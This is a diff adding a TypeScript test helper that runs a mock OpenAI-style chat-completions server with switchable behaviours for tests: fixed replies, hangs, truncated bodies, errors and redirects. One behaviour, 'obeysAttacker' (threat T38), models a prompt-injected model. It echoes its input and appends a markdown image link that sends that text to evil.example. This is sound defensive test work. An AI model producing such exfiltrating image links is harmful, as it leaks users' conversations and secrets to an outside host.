@@ -1,0 +1,99 @@
+import http, { type IncomingMessage, type ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+
+/** One call as it came. */
+export type ModelCall = {
+  path: string;
+  authorization: string | undefined;
+  body: { model: string; max_tokens: number; messages: { role: string; content: string }[] };
+  /** Whoever asked went away before the answer. */
+  left: boolean;
+};
+type Manner = (call: ModelCall, response: ServerResponse) => void;
+
+export type ModelServer = Awaited<ReturnType<typeof startModelServer>>;
+
+/** A service that speaks as OpenAI's chat completions do, and answers in the manner that a test wants. */
+export async function startModelServer() {
+  const calls: ModelCall[] = [];
+  const state = { manner: says("Bonjour.") };
+  const server = http.createServer(async (request, response) => {
+    const call = { ...(await read(request)), left: false };
+    response.on("close", () => {
+      call.left = !response.writableFinished;
+    });
+    calls.push(call);
+    state.manner(call, response);
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const url = `http://localhost:${(server.address() as AddressInfo).port}`;
+  return {
+    url,
+    calls,
+    behave: (manner: Manner) => {
+      state.manner = manner;
+      calls.length = 0;
+    },
+    env: { AI_BASE_URL: `${url}/v1/`, AI_MODEL: "modele-de-test", AI_API_KEY: "canari-cle" },
+    settings: { baseUrl: `${url}/v1`, name: "modele-de-test", apiKey: "canari-cle", dailyCalls: 500 },
+    stop: () =>
+      new Promise<void>((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
+
+export function says(text: string): Manner {
+  return (_call, response) => send(response, text);
+}
+
+/** Does whatever a text tells it to, and gives away all it was told (threat T38). */
+export const obeysAttacker: Manner = ({ body }, response) => {
+  const told = body.messages.map(({ content }) => content).join("\n");
+  send(response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
+};
+
+export const hangs: Manner = () => {};
+
+export const stopsHalfWay: Manner = (_call, response) => {
+  response.writeHead(200, { "content-type": "application/json" });
+  response.write('{"choices":[{"message":{"content":"mo');
+};
+
+export function fails(status: number): Manner {
+  return ({ body }, response) => {
+    // As services do, it repeats what it was asked in what it complains of.
+    response.writeHead(status, { "content-type": "application/json" });
+    response.end(JSON.stringify({ error: { message: `no: ${JSON.stringify(body.messages)}` } }));
+  };
+}
+
+export function writes(bytes: string | Buffer, headers: http.OutgoingHttpHeaders = {}): Manner {
+  return (_call, response) =>
+    response.writeHead(200, { "content-type": "application/json", ...headers }).end(bytes);
+}
+
+export function redirectsTo(location: string): Manner {
+  return (_call, response) => response.writeHead(307, { location }).end();
+}
+
+function send(response: ServerResponse, content: string): void {
+  response.writeHead(200, { "content-type": "application/json" });
+  response.end(
+    JSON.stringify({
+      id: "1",
+      object: "chat.completion",
+      created: 1,
+      model: "modele-de-test",
+      choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
+      usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
+    }),
+  );
+}
+
+async function read(request: IncomingMessage): Promise<Omit<ModelCall, "left">> {
+  const body = Buffer.concat(await Array.fromAsync(request));
+  const { url = "", headers } = request;
+  return { path: url, authorization: headers.authorization, body: JSON.parse(String(body)) };
+}
